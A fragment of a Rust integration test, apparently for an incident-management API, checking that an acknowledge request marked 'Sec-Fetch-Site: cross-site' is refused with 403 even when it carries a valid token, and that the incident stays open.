    assert!(mass["alerts_total"].as_u64().unwrap() >= 1, "{mass}");

    // A browser on another site cannot act, even with a token it somehow holds.
    let auth = format!("Bearer {}", api.tok("responder"));
    let (code, text) = http_with(
        port,
        "POST",
        &format!("/v1/incidents/{id}/ack"),
        &[("Authorization", auth.as_str()), ("Sec-Fetch-Site", "cross-site")],
        b"",
    )
    .unwrap();
    assert_eq!(code, 403, "{text}");
    assert_eq!(api.json("viewer", &format!("/v1/incidents/{id}"))["status"], "open");
}
